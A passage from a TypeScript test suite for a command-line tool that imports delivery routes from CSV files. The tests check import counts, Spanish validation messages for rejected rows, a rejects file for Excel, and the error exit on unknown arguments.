      ROUTE_HEADER,
      'GRO-01,Ruta Centro,GRSSA000010,Birmex,3,KIT-PN,1,GRSSA000001',
      'GRO-01,Ruta Centro,GRSSA000010,Birmex,3,KIT-PN,2,GRSSA000003',
      'GRO-01,Ruta Centro,GRSSA000010,Birmex,3,KIT-PN,3,GRIMB000105',
      'GRO-02,Ruta Norte,GRSSA000010,Correos de México,1,KIT-PN,1,GRIMB000104',
    ]);
    const s = await importRoutes(ctx, file);
    expect(counts(s)).toEqual({ read: 4, created: 0, updated: 4, unchanged: 0, rejected: 0, skipped: 0 });
    expect((await routes()).filter((r: any) => r.code < 'GRO-03').map((r: any) => [r.code, r.stops.map((x: any) => x.clues)])).toEqual([
      ['GRO-01', ['GRSSA000001', 'GRSSA000003', 'GRIMB000105']],
      ['GRO-02', ['GRIMB000104']],
    ]);
  });

  test('the command line: summary, each refused line, the file for Excel; bad arguments exit 1', async () => {
    const rejects = join(dir, 'rutas-rechazos.csv');
    const r = await runCli('src/cli/import-routes.ts', [problems, '--rejects', rejects], tdb.url);
    expect({ code: r.code, error: r.stderr.includes('error:') }).toEqual({ code: 0, error: false });
    expect(r.stdout).toContain('leídas 9 · creadas 0 · actualizadas 0 · sin cambios 3 · rechazadas 6 · omitidas 0');
    expect(r.stdout).toContain('  línea 3 (OCSSA000001): STOP_OUTSIDE_STATE — OCSSA000001 es de otra entidad que el almacén GRSSA000010: una ruta no sale de su entidad.');
    expect(r.stdout).toContain('rutas: nuevas 0 · actualizadas 0 · sin cambios 2 · rechazadas 4 (GRO-03, GRO-05, GRO-06, GRO-08)');
    expect(r.stdout).toContain(`las 6 filas rechazadas y las 1 filas importadas con algo que revisar, con su línea y el motivo: ${rejects}`);
    const [, ...lines] = parse((await readFile(rejects, 'utf8')).replace(/^\uFEFF/, '')) as string[][];
    expect(lines.map((l) => [l[0], l[2], l[4]])).toEqual([
      // GRIMB000101 has been on GRO-07 since the first run
      ['2', 'ALREADY_ON_ROUTE', 'rechazada'],
      ['3', 'STOP_OUTSIDE_STATE', 'rechazada'],
      ['5', 'ALREADY_ON_ROUTE', 'rechazada'],
      ['6', 'ROUTE_NOT_SAVED', 'rechazada'],
      ['7', 'DUPLICATE_POSITION', 'rechazada'],
      ['10', 'OUT_OF_RANGE', 'rechazada'],
      ['8', 'POSITION_GAP', 'importada; revisar'],
    ]);
    const bad = await runCli('src/cli/import-routes.ts', [problems, '--desde', 'ayer'], tdb.url);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain('error: unexpected arguments: --desde');
    expect(bad.stderr).toContain('usage: npm run import:routes -- FILE.csv|FILE.xlsx [--rejects FILE.csv]');
  });
});
